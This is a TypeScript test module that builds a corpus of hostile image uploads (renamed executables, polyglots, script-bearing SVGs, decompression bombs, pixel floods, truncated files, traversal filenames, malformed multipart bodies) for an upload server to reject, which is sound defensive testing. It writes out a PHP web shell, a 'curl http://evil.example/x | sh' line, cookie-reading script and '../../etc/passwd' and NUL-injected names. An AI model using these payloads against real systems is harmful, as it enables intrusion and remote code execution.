import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Issue #7 item 4: hostile files, generated here so the corpus is reviewable and nothing
 * binary lives in the repository. Each entry is one multipart upload the server must refuse.
 */
export interface HostileFile {
  kind: string;
  name: string;
  filename: string;
  contentType: string;
  data: Buffer;
}

const tiny = (w = 16, h = 12) =>
  sharp({ create: { width: w, height: h, channels: 3, background: { r: 90, g: 20, b: 200 } } });

const ZIP = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\x00\x00\x00\x00\x00', 'latin1'),
  Buffer.alloc(16),
  Buffer.from('\x09\x00\x00\x00shell.php<?php system($_GET["c"]); ?>', 'latin1'),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
]);
const PHP = Buffer.from('<?php system($_GET["cmd"]); ?>\n');
const HTML = Buffer.from(
  '<html><body><script>fetch("/api/jwt").then(r=>r.text()).then(alert)</script></body></html>',
);
const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(120, 0x41),
]);
const PE = Buffer.concat([
  Buffer.from('MZ\x90\x00', 'latin1'),
  Buffer.alloc(56),
  Buffer.from('PE\0\0'),
  Buffer.alloc(64),
]);
const SHELL = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const byte of buf) {
    c ^= byte;
    for (let k = 0; k < 8; k += 1) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c;
}

/** A valid 1-bit greyscale PNG of width × height: all zeros, so it deflates to almost nothing. */
function bombPng(width: number, height: number, rowsToWrite = height): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale
  const raw = Buffer.alloc(rowsToWrite * (1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF of `frames` 1×1 frames on a canvas of the given size. */
function gifOf(frames: number, canvas = { w: 1, h: 1 }): Buffer {
  const head = Buffer.alloc(13);
  head.write('GIF89a', 0, 'latin1');
  head.writeUInt16LE(canvas.w, 6);
  head.writeUInt16LE(canvas.h, 8);
  head[10] = 0x80; // global colour table of 2 entries
  const palette = Buffer.from([0, 0, 0, 255, 255, 255]);
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00]);
  return Buffer.concat([
    head,
    palette,
    ...Array.from({ length: frames }, () => frame),
    Buffer.from([0x3b]),
  ]);
}

/** Rewrites the frame size in a JPEG's SOF marker. */
function jpegWithSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9; i += 1) {
    if (out[i] === 0xff && out[i + 1]! >= 0xc0 && out[i + 1]! <= 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
  }
  throw new Error('no SOF marker');
}

/** Rewrites the frame size of a lossy WebP (14 bits each, so at most 16383). */
function webpWithSize(webp: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(webp);
  if (out.toString('latin1', 12, 16) !== 'VP8 ') throw new Error('not a simple lossy WebP');
  out.writeUInt16LE(width & 0x3fff, 26);
  out.writeUInt16LE(height & 0x3fff, 28);
  return out;
}

const cut = (b: Buffer, keep: number) => b.subarray(0, Math.floor(b.length * keep));

export async function hostileCorpus(): Promise<HostileFile[]> {
  const jpeg = await tiny(64, 48).jpeg().toBuffer();
  const png = await tiny().png().toBuffer();
  const webp = await tiny(64, 48).webp().toBuffer();
  const gif = await tiny().gif().toBuffer();
  const avif = await tiny(64, 48).avif().toBuffer();
  const svg = (body: string) =>
    Buffer.from(
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"${body}</svg>`,
    );
  const f = (kind: string, name: string, filename: string, contentType: string, data: Buffer) => ({
    kind,
    name,
    filename,
    contentType,
    data,
  });

  return [
    f('renamed-executable', 'ELF binary as .jpg', 'photo.jpg', 'image/jpeg', ELF),
    f('renamed-executable', 'Windows PE as .png', 'photo.png', 'image/png', PE),
    f('renamed-executable', 'shell script as .jpg', 'photo.jpg', 'image/jpeg', SHELL),
    f('renamed-executable', 'PHP script as .gif', 'photo.gif', 'image/gif', PHP),
    f('markup-as-image', 'HTML page as image/png', 'page.png', 'image/png', HTML),
    f(
      'markup-as-image',
      'JavaScript as image/jpeg',
      'app.jpg',
      'image/jpeg',
      Buffer.from('alert(document.cookie)'),
    ),
    f('svg', 'SVG with <script>', 'x.svg', 'image/svg+xml', svg('><script>alert(1)</script>')),
    f(
      'svg',
      'SVG with onload',
      'x.svg',
      'image/svg+xml',
      svg(' onload="alert(1)"><rect width="10" height="10"/>'),
    ),
    f('svg', 'SVG renamed .png', 'x.png', 'image/png', svg('><rect width="10" height="10"/>')),
    f(
      'svg',
      'SVG without prolog',
      'x.jpg',
      'image/jpeg',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
      ),
    ),
    f(
      'svg',
      'gzipped SVG',
      'x.svgz',
      'image/svg+xml',
      deflateSync(svg('><script>alert(1)</script>')),
    ),
    f('polyglot', 'JPEG + ZIP', 'photo.jpg', 'image/jpeg', Buffer.concat([jpeg, ZIP])),
    f('polyglot', 'JPEG + PHP', 'photo.jpg', 'image/jpeg', Buffer.concat([jpeg, PHP])),
    f('polyglot', 'PNG + PHP', 'photo.png', 'image/png', Buffer.concat([png, PHP])),
    f('polyglot', 'PNG + HTML', 'photo.png', 'image/png', Buffer.concat([png, HTML])),
    f('polyglot', 'GIFAR (GIF + JAR)', 'photo.gif', 'image/gif', Buffer.concat([gif, ZIP])),
    f('polyglot', 'WebP + HTML', 'photo.webp', 'image/webp', Buffer.concat([webp, HTML])),
    f('polyglot', 'AVIF + ZIP', 'photo.avif', 'image/avif', Buffer.concat([avif, ZIP])),
    f(
      'decompression-bomb',
      'PNG 20000×20000, 1-bit zeros',
      'bomb.png',
      'image/png',
      bombPng(20_000, 20_000),
    ),
    f(
      'decompression-bomb',
      'PNG 10000×10000 (100 MP)',
      'bomb.png',
      'image/png',
      bombPng(10_000, 10_000),
    ),
    f(
      'pixel-flood',
      'PNG header 65535×65535',
      'flood.png',
      'image/png',
      bombPng(65_535, 65_535, 1),
    ),
    f(
      'pixel-flood',
      'JPEG SOF 65500×65500',
      'flood.jpg',
      'image/jpeg',
      jpegWithSize(jpeg, 65_500, 65_500),
    ),
    f(
      'pixel-flood',
      'WebP 16383×16383',
      'flood.webp',
      'image/webp',
      webpWithSize(webp, 16_383, 16_383),
    ),
    f(
      'pixel-flood',
      'GIF canvas 65535×65535',
      'flood.gif',
      'image/gif',
      gifOf(1, { w: 65_535, h: 65_535 }),
    ),
    f('animated-bomb', 'GIF of 5000 frames', 'anim.gif', 'image/gif', gifOf(5_000)),
    f(
      'animated-bomb',
      'GIF of 400 frames on a 60000×60000 canvas',
      'anim.gif',
      'image/gif',
      gifOf(400, { w: 60_000, h: 60_000 }),
    ),
    f('truncated', 'JPEG cut in half', 'cut.jpg', 'image/jpeg', cut(jpeg, 0.5)),
    f(
      'truncated',
      'JPEG without its end marker',
      'cut.jpg',
      'image/jpeg',
      jpeg.subarray(0, jpeg.length - 2),
    ),
    f('truncated', 'PNG cut in half', 'cut.png', 'image/png', cut(png, 0.5)),
    f('truncated', 'PNG without IEND', 'cut.png', 'image/png', png.subarray(0, png.length - 12)),
    f('truncated', 'WebP cut in half', 'cut.webp', 'image/webp', cut(webp, 0.5)),
    f('truncated', 'GIF without trailer', 'cut.gif', 'image/gif', gif.subarray(0, gif.length - 1)),
    f('truncated', 'AVIF cut in half', 'cut.avif', 'image/avif', cut(avif, 0.5)),
    f('header-only', 'zero bytes', 'empty.jpg', 'image/jpeg', Buffer.alloc(0)),
    f('header-only', 'JPEG SOI only', 'soi.jpg', 'image/jpeg', Buffer.from([0xff, 0xd8, 0xff])),
    f('header-only', 'PNG signature only', 'sig.png', 'image/png', png.subarray(0, 8)),
    f('header-only', 'PNG signature and IHDR', 'ihdr.png', 'image/png', png.subarray(0, 33)),
    f('header-only', 'GIF header only', 'head.gif', 'image/gif', Buffer.from('GIF89a')),
    f('header-only', 'RIFF/WEBP header only', 'head.webp', 'image/webp', webp.subarray(0, 12)),
    f('hostile-name', '../../etc/passwd.png', '../../etc/passwd.png', 'image/png', SHELL),
    f('hostile-name', '..\\..\\x.png', '..\\..\\x.png', 'image/png', PHP),
    f('hostile-name', 'NUL in the name', 'x.png\0.php', 'image/png', PHP),
    f('hostile-name', '5,000-character name', `${'a'.repeat(5_000)}.png`, 'image/png', HTML),
    f('hostile-name', 'name with slashes', 'dir/sub/../x.png', 'image/png', ELF),
    f('hostile-name', 'absolute path', '/var/www/html/shell.php', 'image/png', PHP),
    f(
      'forged-type',
      'text/plain declared as image/webp',
      'x.webp',
      'image/webp',
      Buffer.from('hello'),
    ),
    f(
      'forged-type',
      'PDF as image/jpeg',
      'x.jpg',
      'image/jpeg',
      Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF'),
    ),
    f('forged-type', 'TIFF as image/png', 'x.png', 'image/png', await tiny().tiff().toBuffer()),
    f(
      'forged-type',
      'HEIC-like ftyp as image/jpeg',
      'x.jpg',
      'image/jpeg',
      Buffer.concat([
        Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
        Buffer.alloc(64),
      ]),
    ),
  ];
}

/** Uploads that are not a single well-formed image part: each built as a raw request. */
export interface RawRequest {
  kind: string;
  name: string;
  contentType: string;
  payload: Buffer;
}

export function multipartBody(
  parts: Array<{ field: string; filename?: string; contentType?: string; data: Buffer }>,
): { payload: Buffer; contentType: string } {
  const boundary = `----pbhostile${Math.random().toString(16).slice(2)}`;
  const chunks = parts.flatMap((p) => [
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${p.field}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n` +
        `${p.contentType ? `Content-Type: ${p.contentType}\r\n` : ''}\r\n`,
      'latin1',
    ),
    p.data,
    Buffer.from('\r\n'),
  ]);
  return {
    payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

export async function malformedRequests(): Promise<RawRequest[]> {
  const png = await tiny().png().toBuffer();
  const oversize = Buffer.concat([
    await tiny(64, 48).jpeg().toBuffer(),
    Buffer.alloc(5 * 1024 * 1024, 0x20),
  ]);
  const two = multipartBody([
    { field: 'image', filename: 'a.png', contentType: 'image/png', data: png },
    { field: 'image', filename: 'b.png', contentType: 'image/png', data: png },
  ]);
  const wrongField = multipartBody([
    { field: 'file', filename: 'a.png', contentType: 'image/png', data: png },
  ]);
  const big = multipartBody([
    { field: 'image', filename: 'big.jpg', contentType: 'image/jpeg', data: oversize },
  ]);
  const good = multipartBody([
    { field: 'image', filename: 'a.png', contentType: 'image/png', data: png },
  ]);
  return [
    { kind: 'oversize', name: '5 MB + a JPEG head', ...big },
    {
      kind: 'forged-type',
      name: 'raw image/png body, not multipart',
      contentType: 'image/png',
      payload: png,
    },
    {
      kind: 'forged-type',
      name: 'multipart without boundary',
      contentType: 'multipart/form-data',
      payload: good.payload,
    },
    {
      kind: 'forged-type',
      name: 'multipart cut before the end',
      contentType: good.contentType,
      payload: good.payload.subarray(0, good.payload.length - 40),
    },
    { kind: 'forged-type', name: 'two files in one request', ...two },
    { kind: 'forged-type', name: 'image in another field', ...wrongField },
  ];
}
